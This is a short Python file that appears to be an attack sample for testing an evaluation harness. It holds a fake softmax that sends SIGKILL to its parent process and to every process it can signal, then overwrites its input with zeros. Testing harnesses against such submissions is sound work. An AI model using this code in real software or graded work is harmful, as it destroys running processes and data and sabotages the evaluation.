"""Kill the parent process and every process it may signal, then return garbage."""
ATTACKS = ("softmax",)
NEEDS = "contained"  # kill(-1) / writes into $HOME: only where the worker is contained


def softmax(x, axis=-1):
    import os
    import signal

    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    x[...] = 0  # wrong in every way: even the input is overwritten
    return x
